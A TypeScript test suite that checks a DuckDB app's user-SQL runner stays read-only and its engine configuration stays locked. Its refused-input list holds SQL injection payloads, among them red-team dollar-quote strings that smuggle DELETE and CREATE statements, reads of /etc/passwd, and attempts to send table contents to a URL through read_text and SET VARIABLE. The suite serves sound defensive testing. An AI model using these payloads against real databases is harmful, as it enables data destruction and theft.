/**
 * User SQL is read-only by construction (src/db/user-sql.ts) on a locked engine (src/db/engine.ts): every
 * statement of the former text filter's lists, and the red team's attacks, against the real DuckDB. What is
 * refused is refused by DuckDB itself (its parser, the read-only transaction, the configuration lock), and the
 * figures are the same afterwards.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { freshDb } from '../../helpers/engine'
import { loadTables } from '../../../src/db/load'
import type { Db } from '../../../src/db/types'
import { SqlRefused, runUserSql, type SqlRefusalKind } from '../../../src/db/user-sql'
import { APP_HEADER, appLines, csv, prepared } from '../../helpers/db'

let db: Db
let before: unknown
const figures = async (): Promise<unknown> => ({
  summary: await db.query('SELECT unit_code, year, active_total, received FROM summary ORDER BY ALL'),
  reports: await db.query('SELECT count(*)::INTEGER AS n FROM reports'),
  tables: await db.query("SELECT table_name FROM information_schema.tables ORDER BY ALL"),
  findings: await db.query('SELECT count(*)::INTEGER AS n FROM findings'),
  files: await db.query('SELECT count(*)::INTEGER AS n FROM files'),
})

beforeAll(async () => {
  db = await freshDb()
  await loadTables(db, [
    prepared('A/reports.csv', 'reports', csv('unit_code,unit_name,parent_code,level,year,active_total', '230883103000,浓桥镇,230883,乡镇,2023,43')),
    prepared('A/applications.csv', 'applications', csv(APP_HEADER, ...appLines('230883103000', 2023, { received: 2, granted: 2, handled: 2 }))),
  ])
  await db.exec('CREATE TABLE t (a INTEGER); CREATE SEQUENCE s')
  before = await figures()
}, 60_000)
afterAll(async () => { await db?.close() })

async function refusal(sql: string): Promise<SqlRefused> {
  try {
    await runUserSql(db, sql)
  } catch (e) {
    if (e instanceof SqlRefused) return e
    throw e
  }
  throw new Error(`ran: ${sql}`)
}

const allowed = [
  'select 1',
  'SELECT * FROM summary',
  'select 1;',
  'select 1 ;  ;\n',
  '  -- a comment\nselect 1',
  '/* ; */ select 1',
  '/* drop table x */ SELECT 1',
  "select 'drop table'",
  "select 'a;b' as x",
  "select 'it''s; delete' as x",
  "select E'it\\'s; drop' as x",
  'select $$; drop table x$$ as x',
  'select $tag$ ; insert $tag$',
  'select "update", "delete" from (select 1 as "update", 2 as "delete")',
  'WITH x AS (SELECT 1 AS a) SELECT * FROM x',
  'with recursive t(n) as (select 1 union all select n + 1 from t where n < 3) select * from t',
  'DESCRIBE summary',
  'describe select * from units',
  'SUMMARIZE summary',
  'SHOW TABLES',
  'show all tables',
  'FROM summary LIMIT 3',
  '(select 1) union (select 2)',
  "SELECT * FROM summary WHERE unit_name = 'x' AND year IN (2021, 2022)",
  "select * from units where unit_name in ('a', 'b')",
  'select table_name from duckdb_tables()',
  'select * from load_findings',
  'select loaded from files',
  "select 'read_csv(''x.csv'')'",
  'select * from summary -- ; drop table summary',
  'values (1), (2)',
  'SELECT count(*) FROM summary',
  "SELECT 'a;b; drop table x' AS s",
  'select 1 as load, 2 as "set"',
]

const refused: [string, SqlRefusalKind][] = [
  ['', 'empty'],
  ['   ;  ', 'empty'],
  ['-- only a comment', 'notSelect'],
  // the red team's two dollar-quote attacks: DuckDB reads 合计$$ as a name, so the ; ends the statement
  ['SELECT 1 AS 合计$$; CREATE TABLE pwn3 AS SELECT 7 AS x; --$$', 'notSelect'],
  ['SELECT 1 AS 合计$$; DELETE FROM reports; DELETE FROM summary; --$$', 'notSelect'],
  ['select 1; drop table x', 'notSelect'],
  ['select 1; select 2', 'notSelect'],
  ["select 'a'; delete from t", 'notSelect'],
  ['select 1 /* ; */ ; drop table x', 'notSelect'],
  ['drop table t', 'notSelect'],
  ['DELETE FROM summary', 'notSelect'],
  ['insert into t values (1)', 'notSelect'],
  ['update summary set year = 1', 'notSelect'],
  ['create table t2 as select 1', 'notSelect'],
  ['alter table summary rename to s', 'notSelect'],
  ["copy summary to 'x.csv'", 'notSelect'],
  ["attach 'x.db'", 'notSelect'],
  ["ATTACH 'http://127.0.0.1:9/x.duckdb' AS r", 'notSelect'],
  ['detach x', 'notSelect'],
  ['install httpfs', 'notSelect'],
  ['load httpfs', 'notSelect'],
  ['LOAD x', 'notSelect'],
  ['pragma version', 'notSelect'],
  ['set threads = 1', 'notSelect'],
  ['SET enable_external_access = true', 'notSelect'],
  ["SET custom_extension_repository = 'http://127.0.0.1:9'", 'notSelect'],
  ["SET VARIABLE u = 'http://127.0.0.1:9/x.csv?d=' || (SELECT string_agg(unit_name, '|') FROM units)", 'notSelect'],
  ['call pragma_version()', 'notSelect'],
  ["export database 'x'", 'notSelect'],
  ["import database 'x'", 'notSelect'],
  ['checkpoint', 'notSelect'],
  ['/* hi */ drop table x', 'notSelect'],
  ['EXPLAIN SELECT * FROM summary', 'notSelect'],
  ['explain analyze create table t as select 1', 'notSelect'],
  ['PIVOT summary ON year', 'notSelect'],
  ["SELECT * FROM query('DELETE FROM summary')", 'notSelect'],
  ['WITH x AS (DELETE FROM summary RETURNING *) SELECT * FROM x', 'error'],
  ['with x as (insert into t values (1) returning *) select * from x', 'error'],
  ["SELECT nextval('s')", 'write'],
  ["select * from read_csv('/etc/passwd')", 'access'],
  ["SELECT * FROM read_csv_auto('x.csv')", 'access'],
  ["select * from read_parquet('http://example.com/x.parquet')", 'access'],
  ["select * from read_json('x.json')", 'access'],
  ["select * from read_text('x')", 'access'],
  ["SELECT * FROM read_text('http://127.0.0.1:9/x.csv?d=' || 'secret')", 'access'],
  ["SELECT * FROM read_text(getvariable('u'))", 'syntax'], // no variable can be set: NULL
  ["select * from read_blob('x')", 'access'],
  ["select * from READ_CSV ('x')", 'access'],
  ["select * from \"read_csv\"('x')", 'access'],
  ["select * from 'x.csv'", 'access'],
  ["select * from summary, 'x.parquet'", 'error'], // no such table: parquet is not built in, and cannot be loaded
  ["select * from summary join 'https://x/y.csv' using (unit_code)", 'access'],
  ["SELECT * FROM read_text('/gdd/../etc/passwd')", 'access'],
  ["select 'unterminated", 'syntax'],
  ['select /* unterminated', 'syntax'],
  ['select "unterminated', 'syntax'],
  ['select $$ unterminated', 'syntax'],
  ['SELEC 1', 'syntax'],
  ['SELECT * FROM no_such_table', 'error'],
]

describe('user SQL', () => {
  it.each(allowed)('runs %s', async (sql) => {
    expect(Array.isArray(await runUserSql(db, sql))).toBe(true)
  })

  it.each(refused)('refuses %s (%s)', async (sql, kind) => {
    const r = await refusal(sql)
    expect(r.kind, r.message).toBe(kind)
    expect(r.message).toMatch(/[\u4e00-\u9fff]/) // a Chinese message
  })

  it('after every attack the figures, tables and sequences are exactly as before', async () => {
    expect(await figures()).toEqual(before)
    expect((await db.query<{ v: number }>("SELECT currval('s') AS v").catch(() => [{ v: -1 }]))[0].v).toBe(-1) // never advanced
  })

  it('the limit caps the rows, results are plain rows', async () => {
    expect(await runUserSql(db, 'SELECT * FROM range(10) r(i)', { limit: 3 })).toEqual([{ i: 0 }, { i: 1 }, { i: 2 }])
    expect(await runUserSql(db, "SELECT unit_name, active_total FROM summary")).toEqual([{ unit_name: '浓桥镇', active_total: 43 }])
  })

  it('a failing user query during a load transaction does not abort the load', async () => {
    await db.session('write', async (w) => {
      await w.exec('BEGIN TRANSACTION')
      await w.exec('INSERT INTO t VALUES (41)')
      await expect(runUserSql(db, "SELECT 'x'::INTEGER")).rejects.toBeInstanceOf(SqlRefused) // run-time errors abort the transaction they happen in
      await expect(runUserSql(db, "SELECT error('boom')")).rejects.toBeInstanceOf(SqlRefused)
      await expect(runUserSql(db, 'SELECT 1; DROP TABLE t')).rejects.toBeInstanceOf(SqlRefused)
      // the user's connection does not see the uncommitted row; the app's main connection neither
      expect(await runUserSql(db, 'SELECT count(*)::INTEGER AS n FROM t')).toEqual([{ n: 0 }])
      await w.exec('INSERT INTO t VALUES (42)')
      await w.exec('COMMIT')
    })
    expect(await db.query('SELECT a FROM t ORDER BY a')).toEqual([{ a: 41 }, { a: 42 }])
    await db.exec('DELETE FROM t')
  })

  it('random noise never crashes the engine nor changes anything', async () => {
    const chars = "sel ct;'\"/*-$\\\nxdrop"
    let seed = 7
    for (let k = 0; k < 300; k++) {
      let s = ''
      for (let i = 0; i < 20; i++) { seed = (seed * 1103515245 + 12345) & 0x7fffffff; s += chars[seed % chars.length] }
      await runUserSql(db, s).catch((e: unknown) => { if (!(e instanceof SqlRefused)) throw e })
    }
    expect(await figures()).toEqual(before)
  })
})

describe('the engine is locked for every connection, the app\'s included', () => {
  it.each([
    ['SET enable_external_access=true', /locked/],
    ['SET lock_configuration=false', /locked/],
    ['SET autoload_known_extensions=true', /locked/],
    ["SET allowed_directories=['/']", /locked|external access/i],
    ["SET custom_extension_repository='http://127.0.0.1:9'", /locked/],
    ['LOAD json', /disabled/],
    ["SELECT * FROM read_text('http://127.0.0.1:9/x')", /disabled/],
    ["ATTACH 'http://127.0.0.1:9/x.duckdb' AS r", /disabled/],
  ])('%s is refused', async (sql, err) => {
    await expect(db.exec(sql)).rejects.toThrow(err)
  })

  it('SET VARIABLE (the app\'s dictionaries) still works, and reading a registered file', async () => {
    await db.exec("SET VARIABLE probe = 'x'")
    expect(await db.query("SELECT getvariable('probe') AS v")).toEqual([{ v: 'x' }])
  })
})
